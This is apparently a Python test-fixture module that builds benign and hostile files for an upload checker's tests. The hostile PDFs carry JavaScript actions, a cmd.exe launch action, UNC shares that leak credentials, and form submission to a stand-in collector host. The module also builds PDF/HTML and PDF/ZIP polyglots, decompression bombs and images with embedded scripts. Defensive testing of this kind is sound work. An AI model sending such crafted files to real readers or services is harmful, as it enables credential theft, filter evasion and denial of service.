"""Files for the upload checker's tests, made in memory (a fresh clone has no fixture folder).

Each function returns the bytes of one kind of file, good or hostile. Well-formed PDFs come from
pypdf's PdfWriter (or pydyf, for object streams); the malformed or hand-tuned ones from
``hand_pdf``, which writes the objects given with a correct cross-reference table.
"""

import functools
import io
import re
import struct
import zipfile
import zlib

import pydyf
from PIL import Image
from pypdf import PdfWriter
from pypdf.actions import JavaScript
from pypdf.generic import DictionaryObject, NameObject, TextStringObject

ELF = b"\x7fELF\x02\x01\x01\x00" + bytes(8) + b"\x02\x00\x3e\x00" + bytes(100)
WINDOWS_EXE = b"MZ\x90\x00\x03\x00\x00\x00" + bytes(56) + b"This program cannot be run in DOS mode."
SVG_WITH_SCRIPT = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
HTML_WITH_PDF_HEADER = (
    b"%PDF-1.4\n<html><body><script>alert(document.cookie)</script></body></html>\n"
)
GIF = b"GIF89a\x01\x00\x01\x00\x80\x00\x00\x00\x00\x00\xff\xff\xff!\xf9\x04\x01\x00\x00\x00\x00,"


# --- PDF -----------------------------------------------------------------------------------


def _written(writer: PdfWriter) -> bytes:
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def pdf_minimal(pages: int = 1) -> bytes:
    """A plain PDF of blank A4 pages."""
    writer = PdfWriter()
    for _ in range(pages):
        writer.add_blank_page(width=595, height=842)
    return _written(writer)


def pdf_encrypted(user_password: str = "secret") -> bytes:  # noqa: S107 - a test file
    """AES-256 encrypted (an empty user password opens it without asking, still encrypted)."""
    writer = PdfWriter()
    writer.add_blank_page(width=595, height=842)
    writer.encrypt(user_password=user_password, owner_password="owner", algorithm="AES-256")
    return _written(writer)


def pdf_javascript_open_action() -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(width=595, height=842)
    writer.root_object[NameObject("/OpenAction")] = JavaScript("app.alert('hi');")
    return _written(writer)


def pdf_javascript_names_tree() -> bytes:
    """Document-level JavaScript, in the catalogue's /Names /JavaScript tree."""
    writer = PdfWriter()
    writer.add_blank_page(width=595, height=842)
    writer.add_open_action(JavaScript("app.alert('hi');"))
    return _written(writer)


def pdf_launch_action() -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(width=595, height=842)
    writer.root_object[NameObject("/OpenAction")] = DictionaryObject(
        {NameObject("/S"): NameObject("/Launch"), NameObject("/F"): TextStringObject("cmd.exe")}
    )
    return _written(writer)


def pdf_embedded_file() -> bytes:
    """An executable carried in the /EmbeddedFiles name tree."""
    writer = PdfWriter()
    writer.add_blank_page(width=595, height=842)
    writer.add_attachment("setup.exe", ELF)
    return _written(writer)


def pdf_truncated() -> bytes:
    """The first half of a valid PDF."""
    data = pdf_minimal()
    return data[: len(data) // 2]


def pdf_javascript_in_object_stream() -> bytes:
    """JavaScript in an OpenAction that lives inside a compressed object stream."""
    document = pydyf.PDF()
    document.add_page(
        pydyf.Dictionary(
            {
                "Type": "/Page",
                "Parent": document.pages.reference,
                "MediaBox": pydyf.Array([0, 0, 595, 842]),
            }
        )
    )
    action = pydyf.Dictionary({"S": "/JavaScript", "JS": pydyf.String("app.alert(1)")})
    document.add_object(action)
    document.catalog["OpenAction"] = action.reference
    out = io.BytesIO()
    document.write(out, version=b"1.7", compress=True)
    return out.getvalue()


def pdf_pydyf_plain() -> bytes:
    """A clean PDF 1.7 with object streams and a cross-reference stream."""
    document = pydyf.PDF()
    document.add_page(
        pydyf.Dictionary(
            {
                "Type": "/Page",
                "Parent": document.pages.reference,
                "MediaBox": pydyf.Array([0, 0, 595, 842]),
            }
        )
    )
    out = io.BytesIO()
    document.write(out, version=b"1.7", compress=True)
    return out.getvalue()


def pdf_object_stream_renumbered(count: int) -> bytes:
    """``count`` objects in one object stream whose header names them by other numbers: pypdf
    re-parses the whole stream for every object it looks for (quadratic time)."""
    document = pydyf.PDF()
    document.add_page(
        pydyf.Dictionary(
            {
                "Type": "/Page",
                "Parent": document.pages.reference,
                "MediaBox": pydyf.Array([0, 0, 595, 842]),
            }
        )
    )
    for number in range(count):
        document.add_object(pydyf.Dictionary({"N": number}))
    out = io.BytesIO()
    document.write(out, version=b"1.7", compress=True)
    data = out.getvalue()
    found = re.search(rb"/Type /ObjStm/N \d+/First (\d+)/Filter /FlateDecode/Length (\d+)", data)
    first, length = int(found.group(1)), int(found.group(2))
    start = data.index(b"stream\n", found.end()) + len(b"stream\n")
    content = zlib.decompress(data[start : start + length])
    pairs = content[:first].split()
    # The page tree's objects keep their numbers (the page count reads them), the rest do not.
    pairs[8::2] = [b"%d" % (int(number) + 1_000_000) for number in pairs[8::2]]
    header = b" ".join(pairs) + b" "
    stream = zlib.compress(header + content[first:])
    dictionary = b"/Type /ObjStm/N %d/First %d/Filter /FlateDecode/Length %d" % (
        len(pairs) // 2,
        len(header),
        len(stream),
    )
    return (
        data[: found.start()]
        + dictionary
        + data[found.end() : start]
        + stream
        + data[start + length :]
    )


CATALOG = b"<< /Type /Catalog /Pages 2 0 R %s>>"
PAGES = b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"
PAGE = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] %s>>"


def hand_pdf(
    *,
    catalog: bytes = b"",
    page: bytes = b"",
    pages: bytes = PAGES,
    more: tuple[bytes, ...] = (),
    orphans: bytes = b"",
) -> bytes:
    """A PDF written byte by byte: objects 1 catalogue, 2 page tree, 3 page, then ``more`` (4, 5,
    ...); ``orphans`` are written before the cross-reference table, which does not name them."""
    objects = [CATALOG % catalog, pages, PAGE % page, *more]
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    out += orphans
    xref_at = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    for offset in offsets:
        out += b"%010d 00000 n \n" % offset
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1,
        xref_at,
    )
    return bytes(out)


def pdf_javascript_hex_escaped() -> bytes:
    """``/Java#53cript`` is ``/JavaScript`` once the name is decoded."""
    return hand_pdf(catalog=b"/OpenAction << /S /Java#53cript /JS (app.alert(1)) >> ")


def pdf_javascript_page_additional_action() -> bytes:
    return hand_pdf(page=b"/AA << /O << /S /JavaScript /JS 4 0 R >> >> ", more=(b"(app.alert(1))",))


def pdf_javascript_link_annotation() -> bytes:
    """A link whose action is JavaScript; the action type is itself a reference."""
    return hand_pdf(
        page=b"/Annots [4 0 R] ",
        more=(
            b"<< /Type /Annot /Subtype /Link /Rect [0 0 100 100] /A << /S 5 0 R /JS (x) >> >>",
            b"/JavaScript",
        ),
    )


def pdf_javascript_form_field() -> bytes:
    """A form field that runs JavaScript on a keystroke."""
    return hand_pdf(
        catalog=b"/AcroForm << /Fields [4 0 R] >> ",
        page=b"/Annots [4 0 R] ",
        more=(
            b"<< /FT /Tx /T (name) /Type /Annot /Subtype /Widget /Rect [0 0 100 20] "
            b"/AA << /K << /S /JavaScript /JS (event.rc = true;) >> >> >>",
        ),
    )


def pdf_javascript_orphan_object() -> bytes:
    """JavaScript in an object the cross-reference table does not name (a repairing reader
    could still find it)."""
    return hand_pdf(orphans=b"9 0 obj\n<< /S /JavaScript /JS (app.alert(1)) >>\nendobj\n")


def pdf_javascript_orphan_object_stream() -> bytes:
    """JavaScript inside an object stream that nothing references."""
    member = b"<< /S /JavaScript /JS (app.alert(1)) >>"
    header = b"10 0 "
    content = zlib.compress(header + member)
    stream = b"11 0 obj\n<< /Type /ObjStm /N 1 /First %d /Filter /FlateDecode /Length %d >>\n" % (
        len(header),
        len(content),
    )
    return hand_pdf(orphans=stream + b"stream\n" + content + b"\nendstream\nendobj\n")


def pdf_file_attachment_annotation() -> bytes:
    return hand_pdf(
        page=b"/Annots [4 0 R] ",
        more=(
            b"<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 20 20] "
            b"/FS << /Type /Filespec /F (a.exe) >> >>",
        ),
    )


def pdf_xfa_form() -> bytes:
    return hand_pdf(catalog=b"/AcroForm << /Fields [] /XFA 4 0 R >> ", more=(b"[]",))


def pdf_no_pages() -> bytes:
    return hand_pdf(pages=b"<< /Type /Pages /Kids [] /Count 0 >>")


def pdf_cyclic_references() -> bytes:
    """Harmless objects that reference each other in a ring, and the page referencing them."""
    return hand_pdf(
        page=b"/PieceInfo 4 0 R ",
        more=(b"<< /Next 5 0 R /Up 3 0 R >>", b"<< /Next 4 0 R /Self 5 0 R >>"),
    )


def pdf_with_link() -> bytes:
    """A normal web link (/URI action): allowed."""
    return hand_pdf(
        page=b"/Annots [4 0 R] ",
        more=(
            b"<< /Type /Annot /Subtype /Link /Rect [0 0 100 20] "
            b"/A << /S /URI /URI (https://rsj.beijing.gov.cn/) >> >>",
        ),
    )


def pdf_link_action(action: bytes) -> bytes:
    """A page with one link annotation whose action is ``action``."""
    return hand_pdf(
        page=b"/Annots [4 0 R] ",
        more=(b"<< /Type /Annot /Subtype /Link /Rect [0 0 100 20] /A %s >>" % action,),
    )


def pdf_link(uri: bytes) -> bytes:
    """A link annotation to ``uri`` (a PDF string, with its delimiters)."""
    return pdf_link_action(b"<< /S /URI /URI %s >>" % uri)


def pdf_link_indirect(uri: bytes) -> bytes:
    """A link whose address is an object of its own (a scan of the annotation alone sees a
    reference)."""
    return hand_pdf(
        page=b"/Annots [4 0 R] ",
        more=(
            b"<< /Type /Annot /Subtype /Link /Rect [0 0 100 20] /A << /S /URI /URI 5 0 R >> >>",
            uri,
        ),
    )


def pdf_internal_link() -> bytes:
    """A link to the document's own first page (/GoTo): allowed."""
    return pdf_link_action(b"<< /S /GoTo /D [3 0 R /Fit] >>")


def pdf_page_opens_uri() -> bytes:
    """The page opens an outside address by itself when it is shown (a tracking beacon)."""
    return hand_pdf(page=b"/AA << /O << /S /URI /URI (https://tracker.example/seen) >> >> ")


def pdf_open_action_gotor_unc() -> bytes:
    """On opening, go to a PDF on a network share: a Windows reader connects to it and hands
    over the user's credentials."""
    return hand_pdf(
        catalog=b"/OpenAction << /S /GoToR /D [0 /Fit] "
        b"/F (\\\\\\\\203.0.113.9\\\\share\\\\x.pdf) >> "
    )


def pdf_submit_form() -> bytes:
    """A button that sends the form's fields to an outside address."""
    return hand_pdf(
        catalog=b"/AcroForm << /Fields [4 0 R] >> ",
        page=b"/Annots [4 0 R] ",
        more=(
            b"<< /FT /Btn /Ff 65536 /T (send) /Type /Annot /Subtype /Widget /Rect [0 0 80 20] "
            b"/A << /S /SubmitForm /F << /FS /URL /F (https://collector.example/in) >> >> >>",
        ),
    )


def pdf_import_data_unc() -> bytes:
    """On opening, import form data from a network share."""
    return hand_pdf(
        catalog=b"/OpenAction << /S /ImportData /F (\\\\\\\\203.0.113.9\\\\share\\\\d.fdf) >> "
    )


def pdf_named_menu_command() -> bytes:
    """A link that runs a command of the reader's menus."""
    return pdf_link_action(b"<< /S /Named /N /SaveAs >>")


def pdf_open_action_goto() -> bytes:
    """On opening, show the first page fitted to the window: allowed."""
    return hand_pdf(catalog=b"/OpenAction [3 0 R /Fit] ")


def pdf_link_behind_deep_nesting(uri: bytes) -> bytes:
    """A link pypdf never sees: the catalogue's dictionary nested 3,000 deep before it."""
    return hand_pdf(
        catalog=b"/X "
        + b"<< /A " * 3000
        + b"1"
        + b" >>" * 3000
        + b" /Y << /S /URI /URI %s >> " % uri
    )


def pdf_with_html_after_end() -> bytes:
    """A real PDF that is also a web page: the markup after %%EOF (a PDF reader stops there, a
    browser renders it)."""
    return pdf_minimal() + b"<html><body><script>alert(document.domain)</script></body></html>\n"


def pdf_with_html_comment() -> bytes:
    """A web page in a PDF comment right after the header."""
    data = pdf_minimal()
    header_end = data.index(b"\n") + 1
    return (
        data[:header_end]
        + b"%<html><script>alert(document.domain)</script></html>\n"
        + _shift_xref(data[header_end:], 54)
    )


def _shift_xref(body: bytes, by: int) -> bytes:
    """The cross-reference offsets of ``body`` moved by ``by`` bytes (after an insertion)."""
    xref_start = body.rindex(b"\nxref\n") + 1
    table, rest = body[xref_start:].split(b"trailer", 1)
    table = re.sub(
        rb"(\d{10}) (\d{5}) n", lambda m: b"%010d %s n" % (int(m.group(1)) + by, m.group(2)), table
    )
    rest = re.sub(rb"startxref\s+(\d+)", lambda m: b"startxref\n%d" % (int(m.group(1)) + by), rest)
    return body[:xref_start] + table + b"trailer" + rest


def zip_archive() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("run.html", "<script>alert(document.domain)</script>")
    return out.getvalue()


def pdf_with_zip_after_end() -> bytes:
    """A real PDF that is also a ZIP archive (ZIP readers look for the archive from the end)."""
    return pdf_minimal() + zip_archive()


def pdf_with_zip_before_end() -> bytes:
    """The archive in a comment before the cross-reference table, its end record's comment
    covering the rest of the file: nothing follows %%EOF, and it is still a ZIP archive."""
    archive = bytearray(zip_archive())
    data = hand_pdf(orphans=b"%" + bytes(archive) + b"\n")
    tail = len(data) - (data.index(bytes(archive)) + len(archive))
    archive[-2:] = struct.pack("<H", tail)  # the end record's comment length
    return hand_pdf(orphans=b"%" + bytes(archive) + b"\n")


def pdf_page_count_claim(count: int = 2_147_483_647) -> bytes:
    """One page, in a page tree that declares ``count``."""
    return hand_pdf(pages=b"<< /Type /Pages /Kids [3 0 R] /Count %d >>" % count)


def pdf_pages_twice() -> bytes:
    """The page tree names its one page twice: a reader shows (and counts) two."""
    return hand_pdf(pages=b"<< /Type /Pages /Kids [3 0 R 3 0 R] /Count 2 >>")


def pdf_many_pages(count: int) -> bytes:
    """A real PDF of ``count`` blank pages, written directly (pypdf takes minutes for 60,000)."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = [len(out)]
    out += b"1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n"
    offsets.append(len(out))
    kids = b" ".join(b"%d 0 R" % number for number in range(3, count + 3))
    out += b"2 0 obj\n<< /Type /Pages /Count %d /Kids [%s] >>\nendobj\n" % (count, kids)
    for number in range(3, count + 3):
        offsets.append(len(out))
        out += b"%d 0 obj\n<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>\nendobj\n" % (
            number
        )
    xref_at = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(offsets) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (
        len(offsets) + 1,
        xref_at,
    )
    return bytes(out)


def _deflated_zeros(size: int, *, header: bool = True) -> bytes:
    """``size`` zero bytes compressed with zlib (about 1,000 to 1: 1 GiB is about 1 MB), or as
    raw deflate data without the zlib header (``header=False``)."""
    compressor = zlib.compressobj(9, zlib.DEFLATED, zlib.MAX_WBITS if header else -zlib.MAX_WBITS)
    block = bytes(1024 * 1024)
    parts = [compressor.compress(block) for _ in range(size // len(block))]
    parts.append(compressor.compress(bytes(size % len(block))))
    parts.append(compressor.flush())
    return b"".join(parts)


def pdf_with_stream(content: bytes, filters: bytes = b"/FlateDecode") -> bytes:
    """One page whose content stream is ``content`` (already encoded by ``filters``)."""
    return hand_pdf(
        page=b"/Contents 4 0 R ",
        more=(
            b"<< /Length %d /Filter %s >>\nstream\n%s\nendstream"
            % (len(content), filters, content),
        ),
    )


@functools.cache
def pdf_inflating_to(size: int) -> bytes:
    """A PDF whose content stream inflates to ``size`` bytes (1 GiB: a file of about 1 MB)."""
    return pdf_with_stream(_deflated_zeros(size))


@functools.cache
def pdf_inflating_raw_to(size: int) -> bytes:
    """The same with raw deflate data (no zlib header), which readers inflate too."""
    return pdf_with_stream(_deflated_zeros(size, header=False))


@functools.cache
def pdf_inflating_twice_to(size: int) -> bytes:
    """A content stream deflated twice (/Filter [/FlateDecode /FlateDecode]): 1 GiB from a few
    kilobytes."""
    return pdf_with_stream(zlib.compress(_deflated_zeros(size), 9), b"[/FlateDecode /FlateDecode]")


# --- images --------------------------------------------------------------------------------


def _saved(image: Image.Image, fmt: str) -> bytes:
    out = io.BytesIO()
    image.save(out, fmt)
    return out.getvalue()


def _gradient(width: int, height: int) -> Image.Image:
    image = Image.new("RGB", (width, height))
    image.putdata(
        [(x * 4 % 256, y * 4 % 256, (x + y) % 256) for y in range(height) for x in range(width)]
    )
    return image


def jpeg_photo() -> bytes:
    return _saved(_gradient(64, 48), "JPEG")


def png_scan() -> bytes:
    return _saved(_gradient(40, 30).convert("L"), "PNG")


def _png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png_declaring(width: int, height: int) -> bytes:
    """A small PNG whose header declares ``width`` x ``height`` 8-bit RGB pixels (its data is a
    few rows of zeros: enough to be refused without ever being decoded)."""
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    rows = zlib.compress(bytes(1 + 3 * width) * 4)
    return (
        b"\x89PNG\r\n\x1a\n"
        + _png_chunk(b"IHDR", header)
        + _png_chunk(b"IDAT", rows)
        + _png_chunk(b"IEND", b"")
    )


def jpeg_declaring(width: int, height: int) -> bytes:
    """A real small JPEG whose frame header is patched to declare ``width`` x ``height``."""
    data = bytearray(jpeg_photo())
    sof = data.index(b"\xff\xc0")
    data[sof + 5 : sof + 9] = struct.pack(">HH", height, width)
    return bytes(data)


def png_truncated() -> bytes:
    data = png_scan()
    return data[: len(data) // 2]


def jpeg_truncated() -> bytes:
    data = jpeg_photo()
    return data[: len(data) // 2]


SCRIPT = b"<script>alert(document.domain)</script>"


def png_with_trailing_script() -> bytes:
    """A real PNG with a script after its end chunk."""
    return png_scan() + SCRIPT


def png_with_text_chunk() -> bytes:
    """A real PNG with a script in a tEXt chunk (before its end chunk)."""
    data = png_scan()
    end = data.rindex(b"IEND") - 4
    return data[:end] + _png_chunk(b"tEXt", b"Comment\x00" + SCRIPT) + data[end:]


def jpeg_with_trailing_script_and_comment() -> bytes:
    """A real JPEG with a script in a comment segment and another after its end marker."""
    data = jpeg_photo()
    comment = b"\xff\xfe" + struct.pack(">H", len(SCRIPT) + 2) + SCRIPT
    return data[:2] + comment + data[2:] + SCRIPT


def jpeg_turned(orientation: int = 6) -> bytes:
    """A JPEG 64 wide and 48 high whose EXIF says to show it turned (6: 90 degrees clockwise),
    with a place name in its EXIF as a phone would write."""
    exif = Image.Exif()
    exif[0x0112] = orientation
    exif[0x010E] = "Beijing, 39.9042N 116.4074E"  # ImageDescription
    out = io.BytesIO()
    _gradient(64, 48).save(out, "JPEG", exif=exif.tobytes())
    return out.getvalue()
